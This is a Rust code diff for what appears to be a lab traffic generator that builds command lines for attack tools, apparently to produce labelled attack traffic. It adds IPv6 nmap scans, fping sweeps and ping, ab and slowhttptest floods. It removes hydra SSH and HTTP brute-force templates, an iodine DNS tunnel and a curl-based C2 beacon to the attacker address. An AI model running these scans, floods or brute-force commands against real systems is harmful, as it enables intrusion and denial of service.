@@ -1,14 +1,16 @@
 //! The kinds of attack a session may hold, each a real tool with a line of its own every time.
 
+use super::quiet;
 use super::rng::Rng;
-use std::fmt::Write as _;
-use std::net::Ipv4Addr;
+use std::net::{Ipv4Addr, Ipv6Addr};
 
 /// What a line may speak of.
 #[derive(Clone, Copy, Debug)]
 pub(super) struct Scope {
     pub(super) target: Ipv4Addr,
+    pub(super) target6: Ipv6Addr,
     pub(super) attacker: Ipv4Addr,
+    pub(super) attacker6: Ipv6Addr,
     /// How long the tool is left running, s.
     pub(super) seconds: u64,
 }
@@ -25,8 +27,8 @@ pub(super) enum Side {
 /// What to run. `{passwords}` stands for a list of passwords, `{www}` for a folder to serve.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(super) struct Steps {
-    /// A server at the attacker, started before.
-    pub(super) serve: Option<String>,
+    /// A server at the other end, started before: program and arguments.
+    pub(super) serve: Option<Vec<String>>,
     pub(super) side: Side,
     /// Program and arguments.
     pub(super) line: Vec<String>,
@@ -46,13 +48,17 @@ pub(super) struct Kind {
     pub(super) least: u64,
     /// Its sources are forged.
     pub(super) forged: bool,
+    /// It is IPv6, and its packets have that address of the attacker's.
+    pub(super) v6: bool,
+    /// It loads nobody: others may be on meanwhile.
+    pub(super) quiet: bool,
     pub(super) steps: fn(&mut Rng, Scope) -> Steps,
 }
 
-/// The domain of the tunnel (RFC 6761 keeps `test` free for such).
-const TUNNEL: &str = "t.lab.test";
+/// With fewer packets most did not happen.
+pub(super) const LEAST: u64 = 20;
 
-const fn kind(
+pub(super) const fn kind(
     name: &'static str,
     family: &'static str,
     programs: &'static [&'static str],
@@ -64,14 +70,24 @@ const fn kind(
         family,
         programs,
         weight,
-        least: 20,
+        least: LEAST,
         forged: false,
+        v6: false,
+        quiet: false,
         steps,
     }
 }
 
 /// All of them.
-pub(super) const KINDS: &[Kind] = &[
+pub(super) fn all() -> impl Iterator<Item = &'static Kind> {
+    LOUD.iter().chain(quiet::KINDS)
+}
+
+/// Ports whose services are asked what they are.
+const SERVICES: &str = "21,22,25,53,80,110,143,443,3306,5201,8080";
+
+/// Those that load the host, or see much of it: one after the other.
+const LOUD: &[Kind] = &[
     kind("syn scan", "scan", &["nmap"], 1, |rng, to| {
         scan("-sS", 200..=800, rng, to)
     }),
@@ -85,19 +101,14 @@ pub(super) const KINDS: &[Kind] = &[
         let how = rng.one(&["-sF", "-sN", "-sX"]);
         scan(how, 200..=800, rng, to)
     }),
-    kind("slow scan", "scan_slow", &["nmap"], 2, |rng, to| {
-        let (delay, from) = (rng.within(200..=500), rng.within(1..=5000));
-        away(&format!(
-            "nmap -n -Pn -sS --max-retries 0 --scan-delay {delay}ms -p{from}-{} {}",
-            from + 400,
-            to.target
-        ))
-    }),
-    kind("service scan", "scan_svc", &["nmap"], 2, |_, to| {
-        away(&format!(
-            "nmap -n -Pn -sV -p21,22,25,53,80,110,143,443,3306,5201,8080 {}",
-            to.target
-        ))
+    kind("service scan", "scan_svc", &["nmap"], 2, |rng, to| {
+        let how = rng.one(&["-sV", "-sV --version-light", "-sV --version-all", "-sV -sC", "-sV -O"]);
+        let ports = match rng.within(0..=2) {
+            0 => format!("-p{SERVICES}"),
+            1 => format!("--top-ports {}", rng.within(20..=300)),
+            _ => "-p1-1024".to_owned(),
+        };
+        away(&format!("nmap -n -Pn {how} {ports} {}", to.target))
     }),
     Kind {
         // Of a sweep a host sees what is sent to its own addresses.
@@ -107,6 +118,17 @@ pub(super) const KINDS: &[Kind] = &[
             away(&format!(
                 "nmap -n -sn --disable-arp-ping -PE -PS22,80,443 --max-rate {} 192.0.2.{first}-{last}",
                 rng.within(10..=60)
+            ))
+        })
+    },
+    Kind {
+        least: 4,
+        ..kind("sweep, fping", "sweep", &["fping"], 1, |rng, _| {
+            let [first, last] = super::SWEPT;
+            away(&format!(
+                "fping -q -r {} -i {} -g 192.0.2.{first} 192.0.2.{last}",
+                rng.within(0..=2),
+                rng.within(10..=200)
             ))
         })
     },
@@ -149,7 +171,7 @@ pub(super) const KINDS: &[Kind] = &[
         ))
     }),
     kind("slow headers or body", "slow_dos", &["slowhttptest"], 2, |rng, to| {
-        let how = rng.one(&["-H", "-B"]);
+        let how = rng.one(&["-H", "-B", "-X -w 10 -y 20 -n 5 -z 32 -k 3"]);
         away(&format!(
             "slowhttptest {how} -c {} -i {} -r {} -l {} -u http://{}/file",
             rng.within(40..=150),
@@ -159,47 +181,49 @@ pub(super) const KINDS: &[Kind] = &[
             to.target
         ))
     }),
-    kind("ssh brute force", "bf_ssh", &["hydra"], 1, |rng, to| {
-        let tasks = rng.within(4..=16);
-        away(&format!(
-            "hydra -I -l root -P {{passwords}} -t {tasks} ssh://{}",
-            to.target
-        ))
-    }),
-    kind("http brute force", "bf_http", &["hydra"], 1, |rng, to| {
-        let tasks = rng.within(2..=12);
-        away(&format!(
-            "hydra -I -l admin -P {{passwords}} -t {tasks} http-get://{}/admin/",
-            to.target
-        ))
-    }),
-    kind("beacon", "c2", &["curl", "busybox"], 2, beacon),
     Kind {
-        // It has begun to carry something.
-        least: 60,
-        ..kind("dns tunnel", "dns_tunnel", &["iodine", "iodined"], 2, |rng, to| {
-            let (record, fragment) = (rng.one(&["NULL", "TXT"]), rng.within(400..=900));
-            let (length, pause) = (rng.within(100..=900), rng.within(3..=20));
-            // Inside the tunnel: addresses kept for benchmarks (RFC 2544), never seen at the interface itself.
-            let script = format!(
-                "iodine -f -r -P lab -T {record} -m {fragment} {} {TUNNEL} & sleep 2; \
-                 ping -q -i 0.{pause:02} -s {length} 198.18.0.1",
-                to.attacker
-            );
-            Steps {
-                serve: Some(format!(
-                    "iodined -f -c -P lab -l {} 198.18.0.1/24 {TUNNEL}",
-                    to.attacker
-                )),
-                side: Side::Protected,
-                line: shell(script),
-            }
+        v6: true,
+        ..kind("syn or connect scan, IPv6", "scan", &["nmap"], 1, |rng, to| {
+            let (how, rate, from) = (rng.one(&["-sS", "-sT"]), rng.within(100..=800), rng.within(1..=2000));
+            away(&format!(
+                "nmap -6 -n -Pn {how} --max-rate {rate} -p{from}-{} {}",
+                from + rng.within(1000..=20000),
+                to.target6
+            ))
+        })
+    },
+    Kind {
+        v6: true,
+        ..kind("service scan, IPv6", "scan_svc", &["nmap"], 2, |_, to| {
+            away(&format!("nmap -6 -n -Pn -sV -p{SERVICES} {}", to.target6))
+        })
+    },
+    Kind {
+        v6: true,
+        ..kind("http flood, ab, IPv6", "flood_http", &["ab"], 1, |rng, to| {
+            away(&format!(
+                "ab -q -r -n 20000 -c {} -t {} http://[{}]/page",
+                rng.within(10..=60),
+                to.seconds,
+                to.target6
+            ))
+        })
+    },
+    Kind {
+        v6: true,
+        ..kind("icmp flood, IPv6", "flood_icmp", &["ping"], 1, |rng, to| {
+            away(&format!(
+                "ping -6 -q -i 0.00{} -s {} {}",
+                rng.within(1..=3),
+                rng.within(16..=1200),
+                to.target6
+            ))
         })
     },
 ];
 
 /// A line that runs at the attacker.
-fn away(line: &str) -> Steps {
+pub(super) fn away(line: &str) -> Steps {
     Steps {
         serve: None,
         side: Side::Attacker,
@@ -207,7 +231,8 @@ fn away(line: &str) -> Steps {
     }
 }
 
-fn shell(script: String) -> Vec<String> {
+/// A script for the shell.
+pub(super) fn shell(script: String) -> Vec<String> {
     vec!["sh".into(), "-c".into(), script]
 }
 
@@ -225,27 +250,4 @@ fn flood(what: &str, fastest_us: u64, rng: &mut Rng, to: Scope) -> Steps {
     let every = rng.within(fastest_us..=2000);
     let count = to.seconds * 1_000_000 / every;
     away(&format!("hping3 -q {what} -i u{every} -c {count} {}", to.target))
-}
-
-/// The infected host asks its master every second or so, with jitter (MITRE ATT&CK T1071.001).
-fn beacon(rng: &mut Rng, to: Scope) -> Steps {
-    let (every, jitter) = (rng.within(600..=2500), rng.within(2..=30));
-    let port = rng.one(&[80, 443, 8080, 8443]);
-    let mut script = String::new();
-    for _ in 0..=to.seconds * 1000 / every {
-        let spread = every * jitter / 100;
-        let pause = rng.within(every - spread..=every + spread);
-        let _ = write!(
-            script,
-            "curl -s -m 2 -o /dev/null http://{}:{port}/task; sleep {}.{:03}; ",
-            to.attacker,
-            pause / 1000,
-            pause % 1000
-        );
-    }
-    Steps {
-        serve: Some(format!("busybox httpd -f -p {}:{port} -h {{www}}", to.attacker)),
-        side: Side::Protected,
-        line: shell(script),
-    }
 }
